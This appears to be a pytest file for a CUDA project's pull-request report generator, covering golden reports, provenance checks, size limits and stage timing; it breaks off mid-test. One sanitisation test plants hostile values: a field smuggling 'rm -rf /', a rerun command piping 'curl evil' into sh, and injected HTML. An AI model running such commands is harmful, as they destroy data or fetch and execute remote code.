"""The PR report (flashmoe_science.pipeline.report): golden files from fixture runs, provenance, the
size limit, and stages.json (flashmoe_science.pipeline.stages).

Each folder in tests/fixtures/report/ holds what one run leaves in reports/ (an L4 run's env.json,
build.json, gates.json, bench.json, stages.json, build.log; base_build.json is passed as
--base-build) and expected.md, the report it must render to.

Every record in a fixture carries the provenance of FIXTURE_SHA and FIXTURE_RUN, and the tests pin
the checkout's commit and FLASHMOE_RUN_ID to those, so the goldens do not depend on the real HEAD.

After an intended change to the report's layout, regenerate the golden files and review the diff:

    FLASHMOE_REGEN_GOLDEN=1 python -m pytest tests/report/test_report.py
    git diff tests/fixtures/report/
"""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
from pathlib import Path

import pytest

from flashmoe_science.pipeline import exitcodes, provenance, report, stages

FIXTURES = Path(__file__).parents[1] / "fixtures" / "report"
REGENERATE = os.environ.get("FLASHMOE_REGEN_GOLDEN") == "1"
INFO = report.ICONS[report.NOTE]
SCENARIOS = {
    # fixture folder: (exit status, first line of the report)
    "passing": (exitcodes.OK, "## ✅ flashmoe-science: passed"),
    "failing_gates": (
        exitcodes.OK,
        "## ❌ flashmoe-science: 3 gates failed, new register spills in 1 kernel; "
        "bench not compared (no base given)",
    ),
    "regressions": (exitcodes.OK, "## ⚠️ flashmoe-science: 2 regressions"),
    "build_failed": (exitcodes.OK, "## ❌ flashmoe-science: build failed"),
    "missing": (exitcodes.OK, "## ⚠️ flashmoe-science: nothing ran"),
    "unreadable": (exitcodes.USAGE, "## ❌ flashmoe-science: gates.json unreadable"),
    # gates.json from the last step of a bisect (another commit), bench.json from a third, dirty
    "stale": (
        exitcodes.USAGE,
        "## ⚠️ flashmoe-science: not a verdict on this commit: stale gates.json, stale bench.json",
    ),
    # `nox -s env build test report -- -k test_api`
    "no_gate_selected": (exitcodes.OK, "## ⚠️ flashmoe-science: no gate selected"),
    # the CPU backend: a CUDA-only selection (every gate skipped), and a bench without a base
    "cpu": (
        exitcodes.OK,
        "## ⚠️ flashmoe-science: every selected gate skipped (needs a GPU); on the CPU: CUDA "
        "kernels not run (1 gate skipped, need a GPU); bench not compared (no base given)",
    ),
    # `nox -s env build test bench report` on a loaded 2-core machine without a GPU: the CPU gates
    # passed, the CUDA ones skipped, the build was up to date, the bench ran under load
    "cpu_passing": (
        exitcodes.OK,
        f"## {INFO} flashmoe-science: passed on the CPU: CUDA kernels not run (1,532 gates "
        "skipped, need a GPU); bench not judged (load average 4.0 on 2 CPUs); bench not compared "
        "(no base given)",
    ),
}


# The commit and run every fixture's provenance names: the report describes this checkout.
FIXTURE_SHA = "9c41e07b2d5a8f3e61b0c7d94a2e1f5b8c3d6a70"
FIXTURE_COMMIT = {"sha": FIXTURE_SHA, "dirty": False, "fingerprint": None}
FIXTURE_RUN = "fixture-run"
OLDER_SHA = "1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e"


@pytest.fixture(autouse=True)
def _fixture_checkout(monkeypatch):
    """The report links the run when it runs in Actions and times the job from its start; goldens
    depend on neither. The checkout's commit and the run id are the fixtures', not the real HEAD."""
    for name in (
        "GITHUB_STEP_SUMMARY",
        "GITHUB_SERVER_URL",
        "GITHUB_REPOSITORY",
        "GITHUB_RUN_ID",
        stages.JOB_START_VAR,
    ):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv(provenance.RUN_ID_VAR, FIXTURE_RUN)
    monkeypatch.setattr(provenance, "commit", lambda tree=None: dict(FIXTURE_COMMIT))


def run_report(folder: Path, tmp_path: Path, *extra: str) -> tuple[int, str]:
    reports = tmp_path / "reports"
    shutil.copytree(
        folder, reports, ignore=shutil.ignore_patterns("expected.md", "base_build.json", ".gitkeep")
    )
    args = ["--dir", str(reports), *extra]
    if (folder / "base_build.json").exists():
        args += ["--base-build", str(folder / "base_build.json")]
    rc = report.main(args)
    return rc, (reports / "report.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("scenario", sorted(SCENARIOS))
def test_golden(scenario, tmp_path):
    expected_rc, headline = SCENARIOS[scenario]
    rc, text = run_report(FIXTURES / scenario, tmp_path)
    golden = FIXTURES / scenario / "expected.md"
    if REGENERATE:
        golden.write_text(text, encoding="utf-8")
    assert rc == expected_rc
    assert text.splitlines()[0] == headline
    assert text.splitlines()[1] == report.MARKER
    assert text == golden.read_text(encoding="utf-8"), (
        f"report for {scenario} differs from {golden}; if the change is intended, "
        "regenerate with FLASHMOE_REGEN_GOLDEN=1 (see this file's docstring)"
    )


@pytest.mark.parametrize("scenario", sorted(SCENARIOS))
def test_markdown_is_well_formed(scenario, tmp_path):
    _, text = run_report(FIXTURES / scenario, tmp_path)
    assert_well_formed(text)


def assert_well_formed(text: str) -> None:
    assert len(text) <= report.MAX_CHARS
    assert len(text.encode("utf-8")) <= report.MAX_CHARS
    assert text.count("<details") == text.count("</details>")
    fences = [line for line in text.splitlines() if line.startswith("```")]
    assert len(fences) % 2 == 0, "an unclosed code fence"
    # pre-commit's trailing-whitespace and end-of-file hooks would rewrite the goldens otherwise
    assert not [line for line in text.splitlines() if line != line.rstrip()]
    assert text.endswith("\n") and not text.endswith("\n\n")


def test_failing_gates_say_how_to_rerun(tmp_path):
    _, text = run_report(FIXTURES / "failing_gates", tmp_path)
    gates = json.loads((FIXTURES / "failing_gates" / "gates.json").read_text())
    failing = [c for c in gates["cases"] if c["outcome"] == "failed"]
    assert len(failing) == 3
    for case in failing:  # CUDA cases demand a GPU: without one they exit 255, never "passed"
        command = f"FLASHMOE_REQUIRE_GPU=1 nox -s test -- -k '{case['case_id']}-{case['device']}'"
        assert f"rerun: `{command}`" in text
    assert [bool(case.get("rerun")) for case in failing] == [True, True, False]  # both sources
    assert "NaN/Inf" in text and "not bit-identical" in text
    assert "🆕 spills" in text
    # failures first: the gates section comes before the passing environment section
    assert text.index("Correctness gates</b>") < text.index("Environment</b>")
    assert "<details open><summary>❌ <b>Correctness gates" in text


def test_passing_report_has_bench_table_chart_and_comparison(tmp_path):
    _, text = run_report(FIXTURES / "passing", tmp_path)
    assert f"SDPA default ms ({report.TIMES})" in text
    assert "```mermaid\nxychart-beta" in text
    assert 'x-axis "sequence length" [512, 1024, 2048, 4096, 8192]' in text
    assert (
        "**Head vs base** `origin/main` at `4e0d2b7c91a3`: base built and timed side by side"
        in text
    )
    assert "+8 regs" in text  # register change against the base build
    assert (
        "| **total** | sum of this run's stages (FLASHMOE_JOB_START unset) | **15m 26s** |" in text
    )
    assert "<details open" not in text  # nothing failed: every section is closed


def test_decode_table_alone_gets_the_read_floor_column(tmp_path):
    _, text = run_report(FIXTURES / "passing", tmp_path)
    column = f"read floor ms ({report.TIMES})"
    decode = text[text.index("**decode**") : text.index("**small**")]
    prefill = text[text.index("**prefill**") : text.index("**decode**")]
    assert f"| 0.588 (0.89{report.TIMES}) |" in decode  # 0.5884 ms over our 0.6628
    assert column in decode and column not in prefill
    assert "- read floor: unsupported: the read floor needs Triton" in text
    assert "| unsupported |" in decode and "n/a" not in text  # one word for a refusal
    assert f"1.00{report.TIMES} would be a decode as fast as reading the cache" in text


def test_a_bench_of_a_variant_build_says_so(tmp_path):
    """bench.json of a library built with extra defines (an experiment's switch, a planted bug) is
    not a verdict on the default build: the report warns and names them, and names the base's."""
    folder = tmp_path / "variant"
    shutil.copytree(FIXTURES / "passing", folder)
    bench = json.loads((folder / "bench.json").read_text())
    bench["defines"] = ["FLASHMOE_EXP2_EMU=3"]
    bench["comparison"]["base"]["defines"] = []
    (folder / "bench.json").write_text(json.dumps(bench))
    _, text = run_report(folder, tmp_path)
    assert "timed a variant build, not the default one: -DFLASHMOE_EXP2_EMU=3" in text
    assert "vs origin/main (no extra defines)" in text
    _, plain = run_report(FIXTURES / "passing", tmp_path / "plain")
    assert "variant build" not in plain and "no extra defines" not in plain


def test_a_pull_requests_bench_says_it_timed_one_case_per_family(tmp_path):
    folder = tmp_path / "pr"
    shutil.copytree(FIXTURES / "passing", folder)
    bench = json.loads((folder / "bench.json").read_text())
    bench["subset"] = "pull-request"
    (folder / "bench.json").write_text(json.dumps(bench))
    _, text = run_report(folder, tmp_path)
    assert (
        "**cases** the pull request's subset (--pr: one case per kernel family); the whole matrix "
        "runs on pushes to main"
    ) in text
    _, plain = run_report(FIXTURES / "passing", tmp_path / "plain")
    assert "**cases**" not in plain


def test_build_failure_shows_log_tail(tmp_path):
    _, text = run_report(FIXTURES / "build_failed", tmp_path)
    assert "ninja: build stopped: subcommand failed." in text
    assert "mma_m16n8k16" in text
    assert "| ⏭️ | test | not run |" in text and "| ⏭️ | bench | not run |" in text


def test_missing_files_render_not_run(tmp_path):
    rc, text = run_report(FIXTURES / "missing", tmp_path)
    assert rc == exitcodes.OK
    for stage in ("env", "build", "test", "bench"):
        assert f"| ⏭️ | {stage} | not run | — |" in text
    for name in ("env.json", "build.json", "gates.json", "bench.json"):
        assert f"no `{name}`" in text


def test_build_log_alone_means_the_build_failed(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "build.log").write_text(
        "csrc/x.cu(1): error: expected a ';'\nninja: build stopped\n"
    )
    assert report.main(["--dir", str(reports)]) == exitcodes.OK
    text = (reports / "report.md").read_text()
    assert text.startswith("## ❌ flashmoe-science: build failed\n")
    assert "expected a ';'" in text


def _provenance(sha: str = FIXTURE_SHA, run: str = FIXTURE_RUN) -> dict:
    return {"commit": {"sha": sha, "dirty": False, "fingerprint": None}, "run_id": run}


def test_missing_keys_do_not_crash(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    prov = _provenance()
    (reports / "env.json").write_text(json.dumps({"provenance": prov}))
    (reports / "build.json").write_text(
        json.dumps({"provenance": prov, "kernels": [{}], "arch_list": None})
    )
    (reports / "gates.json").write_text(
        json.dumps({"provenance": prov, "cases": [{"outcome": "failed"}, {}]})
    )
    (reports / "stages.json").write_text('{"env": 1.5, "bench": "slow"}')
    assert report.main(["--dir", str(reports)]) == exitcodes.OK
    text = (reports / "report.md").read_text()
    assert text.startswith("## ❌ flashmoe-science: 2 gates failed")
    assert_well_formed(text)


def test_bench_json_must_match_its_schema(tmp_path):
    """The report renders what benches/bench.schema.json allows and nothing else."""
    reports = tmp_path / "reports"
    shutil.copytree(FIXTURES / "passing", reports, ignore=shutil.ignore_patterns("expected.md"))
    bench = json.loads((reports / "bench.json").read_text())
    bench["cases"][0]["baselines"]["sdpa_flash"] = {
        "unsupported": "no"
    }  # a shape bench never writes
    (reports / "bench.json").write_text(json.dumps(bench))
    assert report.main(["--dir", str(reports)]) == exitcodes.USAGE
    text = (reports / "report.md").read_text()
    assert text.startswith("## ❌ flashmoe-science: bench.json unreadable")
    assert "does not match bench.schema.json at cases/0/baselines/sdpa_flash" in text


# ---- the size limit ----


def oversized(tmp_path: Path, failing: int, bench_rows: int) -> Path:
    """The passing run, blown up: many failing gate cases and benchmark rows."""
    reports = tmp_path / "reports"
    shutil.copytree(
        FIXTURES / "passing",
        reports,
        ignore=shutil.ignore_patterns("expected.md", "base_build.json"),
    )
    gates = json.loads((reports / "gates.json").read_text())
    template = gates["cases"][0]
    cases = []
    for i in range(failing):
        case = copy.deepcopy(template)
        case.update(
            case_id=f"{template['case_id']}-n{i}",
            outcome="failed",
            passed=False,
            failures=[
                f"gate 2: max diff 0.{i:04d} > bound",
                "repeated calls on the same inputs are not bit-identical (a race?)",
            ],
        )
        cases.append(case)
    for i in range(3000):  # passing cases collapse into a few group rows, whatever their number
        case = copy.deepcopy(gates["cases"][i % len(gates["cases"])])
        case["case_id"] += f"-p{i}"
        cases.append(case)
    gates.update(
        cases=cases,
        outcome="failed",
        gates={"ran": len(cases), "passed": len(cases) - failing, "failed": failing, "skipped": 0},
    )
    (reports / "gates.json").write_text(json.dumps(gates))
    bench = json.loads((reports / "bench.json").read_text())
    rows = []
    for i in range(bench_rows):
        case = copy.deepcopy(bench["cases"][i % len(bench["cases"])])
        case["id"] += f"-r{i}"
        rows.append(case)
    bench["cases"] = rows
    template = bench["comparison"]["cases"][0]
    bench["comparison"]["cases"] = [
        {**template, "id": c["id"], "verdict": "regression" if i == 7 else "no change"}
        for i, c in enumerate(rows)
    ]
    (reports / "bench.json").write_text(json.dumps(bench))
    return reports


def test_oversized_report_drops_passing_details_then_bench_rows(tmp_path):
    reports = oversized(tmp_path, failing=12, bench_rows=400)
    assert report.main(["--dir", str(reports)]) == exitcodes.OK
    text = (reports / "report.md").read_text()
    assert_well_formed(text)
    assert text.startswith("## ❌ flashmoe-science: 12 gates failed, 1 regression\n")
    assert "✂️ **Truncated** to fit GitHub's 65,536-character comment limit" in text
    assert "passing details" in text and "of 400 benchmark rows" in text
    assert "Passing cases by group" not in text
    for i in range(12):  # every failing case keeps its figures and rerun command
        assert f"-n{i}-cuda'`" in text
    assert "-r7`" in text  # the regressed row is the last to go


def test_extremely_oversized_report_cuts_failing_details(tmp_path):
    reports = oversized(tmp_path, failing=400, bench_rows=50)
    assert report.main(["--dir", str(reports)]) == exitcodes.OK
    text = (reports / "report.md").read_text()
    assert_well_formed(text)
    assert text.startswith("## ❌ flashmoe-science: 400 gates failed")
    assert "of 400 failing-case details" in text
    assert "more failing cases: see `gates.json`" in text


def test_hard_cut_is_the_last_resort(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    checks = [
        {"name": f"check-{i}", "status": "fail", "detail": "x" * 250, "fix": "y" * 250}
        for i in range(400)
    ]
    (reports / "env.json").write_text(
        json.dumps({"provenance": _provenance(), "passed": False, "checks": checks})
    )
    # The env table keeps its first rows only; a small budget still needs the last-resort cut.
    assert report.main(["--dir", str(reports), "--max-chars", "8000"]) == exitcodes.OK
    text = (reports / "report.md").read_text()
    assert len(text.encode()) <= 8000
    assert_well_formed(text)
    assert "✂️ **Cut here**" in text


def test_max_chars_option(tmp_path):
    reports = tmp_path / "reports"
    shutil.copytree(
        FIXTURES / "passing",
        reports,
        ignore=shutil.ignore_patterns("expected.md", "base_build.json"),
    )
    assert report.main(["--dir", str(reports), "--max-chars", "5000"]) == exitcodes.OK
    text = (reports / "report.md").read_text()
    assert len(text.encode()) <= 5000
    assert_well_formed(text)


# ---- inputs, outputs ----


def test_step_summary_is_appended(tmp_path, monkeypatch):
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    rc, text = run_report(FIXTURES / "build_failed", tmp_path)
    assert rc == exitcodes.OK
    assert summary.read_text() == "earlier step\n" + text + "\n"


def test_run_link_in_actions(tmp_path, monkeypatch):
    monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.com")
    monkeypatch.setenv("GITHUB_REPOSITORY", "org/flashmoe-science")
    monkeypatch.setenv("GITHUB_RUN_ID", "123")
    _, text = run_report(FIXTURES / "missing", tmp_path)
    assert "[this run](https://github.com/org/flashmoe-science/actions/runs/123)" in text


def test_missing_base_build_is_a_note_not_an_error(tmp_path):
    rc, text = run_report(
        FIXTURES / "regressions", tmp_path, "--base-build", str(tmp_path / "nope.json")
    )
    assert rc == exitcodes.OK
    assert "No base build to compare with" in text


def test_report_dir_that_is_not_a_folder(tmp_path):
    assert report.main(["--dir", str(tmp_path / "absent")]) == exitcodes.USAGE


def test_untrusted_text_cannot_break_the_layout(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    evil = "</details></summary><img src=x> | ``` `"
    (reports / "env.json").write_text(
        json.dumps(
            {
                "provenance": _provenance(),
                "passed": False,
                "checks": [{"name": evil, "status": "fail", "detail": evil, "fix": evil}],
            }
        )
    )
    (reports / "gates.json").write_text(
        json.dumps(
            {
                "provenance": _provenance(),
                "cases": [
                    {
                        "case_id": "a'; rm -rf / #",
                        "device": "cuda",
                        "outcome": "failed",
                        "failures": [evil],
                        "rerun": "nox -s test -- -k x; curl evil | sh",
                    }
                ],
            }
        )
    )
    report.main(["--dir", str(reports)])
    text = (reports / "report.md").read_text()
    assert_well_formed(text)
    assert "<img" not in text
    # shell metacharacters replaced; a rerun command that is not a plain one is not shown
    assert "FLASHMOE_REQUIRE_GPU=1 nox -s test -- -k 'a___rm_-rf____-cuda'" in text
    assert "curl" not in text


# ---- stages.json ----


def test_record_stage_appends_and_updates(tmp_path):
    path = stages.record_stage("env", 1.25, "ok", 0, directory=tmp_path)
    stages.record_stage("build", 180.0, "ok", 0, directory=tmp_path)
    stages.record_stage("env", 2.5, "fail", 1, directory=tmp_path)
    doc = json.loads(path.read_text())
    assert doc["schema"] == stages.SCHEMA
    assert list(doc["stages"]) == ["env", "build"]
    env = doc["stages"]["env"]
    assert (env["seconds"], env["status"], env["exit_code"]) == (2.5, "fail", 1)
    assert env["provenance"] == {"commit": FIXTURE_COMMIT, "run_id": FIXTURE_RUN}
    assert doc["stages"]["build"]["seconds"] == 180.0
    assert not list(tmp_path.glob("*.tmp")) and not [
        p for p in tmp_path.iterdir() if not p.name.startswith(".") and p != path
    ]


def test_record_stage_recovers_from_a_corrupt_file(tmp_path):
    (tmp_path / "stages.json").write_text('{"stages": {"env": ')
    path = stages.record_stage("test", 3.0, "ok", 0, directory=tmp_path)
    assert list(json.loads(path.read_text())["stages"]) == ["test"]


def test_a_new_run_drops_the_stages_of_older_runs(tmp_path, monkeypatch):
    monkeypatch.setenv(provenance.RUN_ID_VAR, "run-a")
    stages.record_stage("sanitize", 30.0, "ok", 0, directory=tmp_path)
    monkeypatch.setenv(provenance.RUN_ID_VAR, "run-b")
    path = stages.record_stage("env", 1.0, "ok", 0, directory=tmp_path)
    assert list(json.loads(path.read_text())["stages"]) == ["env"]


def test_timed_stage_records_a_crash_as_an_error(tmp_path):
    with pytest.raises(RuntimeError), stages.timed_stage("bench", directory=tmp_path):
        raise RuntimeError("boom")
    stage = json.loads((tmp_path / "stages.json").read_text())["stages"]["bench"]
    assert stage["status"] == "error" and stage["seconds"] >= 0


@pytest.mark.parametrize(
    ("code", "status"),
    [
        (exitcodes.OK, "ok"),
        (exitcodes.GATE_FAILED, "fail"),
        (exitcodes.BUILD_FAILED, "fail"),
        (exitcodes.TOOL_MISSING, "skip"),
        (exitcodes.ENV_BROKEN, "error"),
        (exitcodes.USAGE, "error"),
    ],
)
def test_timed_stage_takes_the_status_from_the_exit_code(tmp_path, code, status):
    with stages.timed_stage("test", directory=tmp_path) as run:
        running = json.loads((tmp_path / "stages.json").read_text())["stages"]["test"]
        assert running["status"] == "running" and running["seconds"] is None
        run.exit_code = code
    stage = json.loads((tmp_path / "stages.json").read_text())["stages"]["test"]
    assert (stage["status"], stage["exit_code"]) == (status, code)


def test_failed_stage_without_artifact_fails_the_verdict(tmp_path):
    reports = tmp_path / "reports"
    shutil.copytree(
        FIXTURES / "build_failed", reports, ignore=shutil.ignore_patterns("expected.md")
    )
    (reports / "build.json").unlink()
    (reports / "build.log").unlink()
    stages.record_stage("sanitize", 12.0, "fail", 1, directory=reports)
    assert report.main(["--dir", str(reports)]) == exitcodes.OK
    first = (reports / "report.md").read_text().splitlines()[0]
    assert first == "## ❌ flashmoe-science: build failed, sanitize failed"


def test_cli_knows_the_command():
    from flashmoe_science.pipeline import cli

    assert cli.COMMANDS["report"][0] == "flashmoe_science.pipeline.report"
    assert re.search(r"\breport\b", cli.usage())


def test_failed_test_stage_is_not_a_pass_even_when_every_gate_passed(tmp_path):
    """gates.json says passed, the test command failed after it: believe the failure."""
    gates = json.loads((FIXTURES / "passing" / "gates.json").read_text())
    (tmp_path / "gates.json").write_text(json.dumps(gates))
    stages.record_stage("test", 12.0, "fail", 1, tmp_path)
    out = tmp_path / "report.md"
    assert report.main(["--dir", str(tmp_path), "--output", str(out), "--no-step-summary"]) == 0
    first = out.read_text().splitlines()[0]
    assert first.startswith("## ❌") and "test stage failed after its gates passed" in first, first


# ---- provenance: a verdict only on this commit's and this run's records ----


def copy_fixture(name: str, tmp_path: Path) -> Path:
    reports = tmp_path / "reports"
    shutil.copytree(
        FIXTURES / name, reports, ignore=shutil.ignore_patterns("expected.md", "base_build.json")
    )
    return reports


def rewrite(path: Path, **changes) -> None:
    doc = json.loads(path.read_text())
    doc.update(changes)
    path.write_text(json.dumps(doc))


def render_dir(reports: Path) -> tuple[int, str]:
    rc = report.main(["--dir", str(reports), "--no-step-summary"])
    return rc, (reports / "report.md").read_text()


def test_gates_of_an_older_commit_are_stale_and_named_with_both_commits(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    rewrite(reports / "gates.json", provenance=_provenance(OLDER_SHA))
    rc, text = render_dir(reports)
    first = text.splitlines()[0]
    assert rc == exitcodes.USAGE
    assert not first.startswith("## ✅") and "stale gates.json" in first
    assert f"from commit {OLDER_SHA[:12]}, not {FIXTURE_SHA[:12]} (this checkout)" in text
    assert "24 of 24 gates passed" not in text  # the stale figures are not shown


def test_a_record_of_another_run_is_stale(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    rewrite(reports / "bench.json", provenance=_provenance(run="nox-older-run"))
    rc, text = render_dir(reports)
    assert rc == exitcodes.USAGE and text.startswith("## ⚠️ flashmoe-science: not a verdict")
    assert f"from run nox-older-run, not this run ({FIXTURE_RUN})" in text


def test_without_a_run_id_only_the_commit_counts(tmp_path, monkeypatch):
    monkeypatch.delenv(provenance.RUN_ID_VAR)
    reports = copy_fixture("passing", tmp_path)
    rewrite(reports / "bench.json", provenance=_provenance(run="nox-older-run"))
    rc, text = render_dir(reports)
    assert rc == exitcodes.OK and text.startswith("## ✅ flashmoe-science: passed")


def test_a_record_without_provenance_is_stale(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    gates = json.loads((reports / "gates.json").read_text())
    del gates["provenance"]
    (reports / "gates.json").write_text(json.dumps(gates))
    rc, text = render_dir(reports)
    assert rc == exitcodes.USAGE and "stale gates.json" in text.splitlines()[0]
    assert "without provenance" in text


def test_a_dirty_tree_differs_from_its_commit(tmp_path, monkeypatch):
    dirty = {**FIXTURE_COMMIT, "dirty": True, "fingerprint": "0123456789abcdef"}
    monkeypatch.setattr(provenance, "commit", lambda tree=None: dict(dirty))
    rc, text = render_dir(copy_fixture("passing", tmp_path))
    assert rc == exitcodes.USAGE
    assert f"**commit** `{FIXTURE_SHA[:12]} (dirty 0123456789abcdef)`" in text
    assert f"not {FIXTURE_SHA[:12]} (dirty 0123456789abcdef) (this checkout)" in text


# ---- gates: what did not gate is never a pass ----


@pytest.mark.parametrize(
    ("outcome", "said"),
    [
        ("no-gates-selected", "no gate selected"),
        ("gates-skipped-need-gpu", "every selected gate skipped (needs a GPU)"),
        ("no-tests-collected", "no tests collected"),
    ],
)
def test_no_pass_without_gates(tmp_path, outcome, said):
    reports = copy_fixture("passing", tmp_path)
    rewrite(
        reports / "gates.json",
        outcome=outcome,
        gates={"ran": 0, "passed": 0, "failed": 0, "skipped": 0},
        tests={"passed": 0, "failed": 0, "skipped": 0},
        cases=[],
        selection={"keyword": "nothing-cuda", "markexpr": None, "gates_only": False, "args": []},
    )
    _, text = render_dir(reports)
    first = text.splitlines()[0]
    assert first.startswith("## ⚠️") and said in first, first
    assert "tests outside the gates" not in text and "gates passed" not in text
    assert "not run" not in text.split("| test |")[1].splitlines()[0]


def test_tests_failed_outside_the_gates(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    rewrite(
        reports / "gates.json",
        outcome="tests-failed-outside-gates",
        tests={"passed": 186, "failed": 1, "skipped": 3},
        pytest_exit_code=1,
    )
    _, text = render_dir(reports)
    assert text.startswith("## ❌ flashmoe-science: tests outside the gates failed")
    assert "186 tests passed, 1 failed, 3 skipped" in text


def test_gates_and_tests_are_counted_apart(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    rewrite(
        reports / "gates.json",
        gates={"ran": 692, "passed": 692, "failed": 0, "skipped": 0},
        tests={"passed": 1008, "failed": 0, "skipped": 0},
    )
    _, text = render_dir(reports)
    assert "| ✅ | test | 692 of 692 gates passed · 1,008 tests passed |" in text


def test_gates_skipped_on_a_restricted_build_say_so_in_the_stage_row(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    rewrite(
        reports / "gates.json",
        gates={"ran": 24, "passed": 24, "failed": 0, "skipped": 438},
        tests={"passed": 24, "failed": 0, "skipped": 438},
        restriction="head_dim=192,256",
    )
    _, text = render_dir(reports)
    assert (
        "| test | 24 of 24 gates passed, 438 skipped (a build restricted to `head_dim=192,256`)"
    ) in text


def test_a_run_with_the_tests_marked_long_says_so(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    rewrite(reports / "gates.json", selection={"keyword": None, "gates_only": False, "long": True})
    assert "**selection** `--long`" in render_dir(reports)[1]


def test_the_gates_section_names_the_gpus_the_test_stage_used(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    worker = {"gpu": "NVIDIA H200", "gates": 6, "tests": 40}
    workers = [{**worker, "id": f"gw{i}", "cuda_visible_devices": str(i % 2)} for i in (0, 1, 2, 3)]
    rewrite(reports / "gates.json", workers=workers)
    _, text = render_dir(reports)
    assert (
        "**GPUs used** 2: `0` NVIDIA H200 (2 workers, 12 gates), "
        "`1` NVIDIA H200 (2 workers, 12 gates)"
    ) in text
    lone = [{"id": "main", "cuda_visible_devices": None, "gpu": "NVIDIA L4", "gates": 24}]
    rewrite(reports / "gates.json", workers=lone)
    assert "**GPUs used** NVIDIA L4 (one process, 24 gates)" in render_dir(reports)[1]
    cpu = [{"id": "gw0", "cuda_visible_devices": None, "gpu": None, "gates": 24}]
    rewrite(reports / "gates.json", workers=cpu)
    assert "GPUs used" not in render_dir(reports)[1], "a CPU run names no GPU"
    rewrite(reports / "gates.json", workers=[{"id": "gw0", "gpu": "<img src=x>", "gates": 1}])
    assert "<img" not in render_dir(reports)[1]


def test_a_failed_case_is_never_part_of_a_pass(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    gates = json.loads((reports / "gates.json").read_text())
    gates["cases"][0]["outcome"] = "failed"  # outcome still says "passed"
    (reports / "gates.json").write_text(json.dumps(gates))
    _, text = render_dir(reports)
    assert text.startswith("## ❌ flashmoe-science: 1 gate failed")
    assert "| ❌ | test | 1 of 24 gates failed ·" in text


def test_a_test_stage_that_wrote_no_gates_json_is_not_reported_as_not_run(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    (reports / "gates.json").unlink()
    _, text = render_dir(reports)
    assert "| ⚠️ | test | ran, but wrote no gates.json | 5m 13s |" in text


def test_a_stage_that_never_finished_fails(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    (reports / "bench.json").unlink()
    stages.record_stage("bench", None, "running", None, directory=reports)
    _, text = render_dir(reports)
    assert text.startswith("## ❌ flashmoe-science: bench did not finish")
    assert (
        "| ❌ | bench | did not finish (killed, timed out, or still running) | unfinished |" in text
    )


# ---- bench ----


def test_a_bench_without_a_base_is_not_a_plain_pass(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    rewrite(reports / "bench.json", comparison=None)
    rc, text = render_dir(reports)
    first = text.splitlines()[0]
    assert rc == exitcodes.OK
    assert first == "## ✅ flashmoe-science: passed; bench not compared (no base given)"
    assert (
        f"| {report.ICONS[report.NOTE]} | bench | 10 cases, 0.97{report.TIMES} SDPA default "
        "(geo-mean), not compared (no base given) |" in text
    )
    assert (
        text.splitlines()[5].startswith(f"SDPA ratio ({report.TIMES})")
        and "not a gate" in text.splitlines()[5]
    )


def test_a_comparison_that_found_no_base_says_why(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    bench = json.loads((reports / "bench.json").read_text())
    bench["comparison"].update(source="none", reason="origin/main does not build", cases=[])
    (reports / "bench.json").write_text(json.dumps(bench))
    _, text = render_dir(reports)
    assert text.splitlines()[0].endswith("bench not compared (origin/main does not build)")
    assert "**Head vs base: not compared**: origin/main does not build." in text


SDPA_EFFICIENT_REFUSAL = (
    "Memory efficient kernel not used because: (Triggered internally at "
    "/pytorch/aten/src/ATen/native/transformers/cuda/sdp_utils.cpp:{line}.); Memory Efficient "
    "attention does not support enable_gqa with a single query (Triggered internally at "
    "/pytorch/aten/src/ATen/native/transformers/cuda/sdp_utils.cpp:{line2}.); RuntimeError: No "
    "available kernel. Aborting execution."
)


def test_each_refusal_once_with_its_reason(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    bench = json.loads((reports / "bench.json").read_text())
    decode = [c for c in bench["cases"] if c["kind"] == "decode"]
    for i, case in enumerate(decode + decode[:1]):  # three refusals, two line numbers
        reason = SDPA_EFFICIENT_REFUSAL.format(line=850 + i % 2, line2=900 + i)
        case["baselines"]["sdpa-efficient"] = {"status": "unsupported", "reason": reason}
    (reports / "bench.json").write_text(json.dumps(bench))
    _, text = render_dir(reports)
    line = (
        "- SDPA efficient: unsupported: Memory Efficient attention does not support enable_gqa "
        "with a single query; RuntimeError: No available kernel. Aborting execution."
    )
    assert text.count("- SDPA efficient:") == 1 and line in text
    assert "Triggered internally" not in text


def test_bandwidth_above_the_copy_ceiling_is_explained(tmp_path):
    reports = copy_fixture("passing", tmp_path)
    bench = json.loads((reports / "bench.json").read_text())
    decode = next(c for c in bench["cases"] if c["kind"] == "decode")
    decode["ours"]["pct_copy_ceiling"] = 112.0
    (reports / "bench.json").write_text(json.dumps(bench))
    _, text = render_dir(reports)
    assert "(112%†)" in text
    assert "† Above 100% of the copy ceiling: that ceiling streams through DRAM" in text
    assert "L2" in text


def test_the_cpu_report_does_not_speak_of_a_card(tmp_path):
    _, text = run_report(FIXTURES / "cpu", tmp_path)
    assert "measured on this card" not in text
    assert "plumbing checks of the CPU path" in text


# ---- a run on the CPU alone ----


def first_line(text: str) -> str:
    return text.splitlines()[0]


def test_a_cpu_only_run_says_in_its_first_line_that_no_cuda_kernel_ran(tmp_path):
    _, text = run_report(FIXTURES / "cpu_passing", tmp_path / "cpu")
    assert first_line(text).startswith(
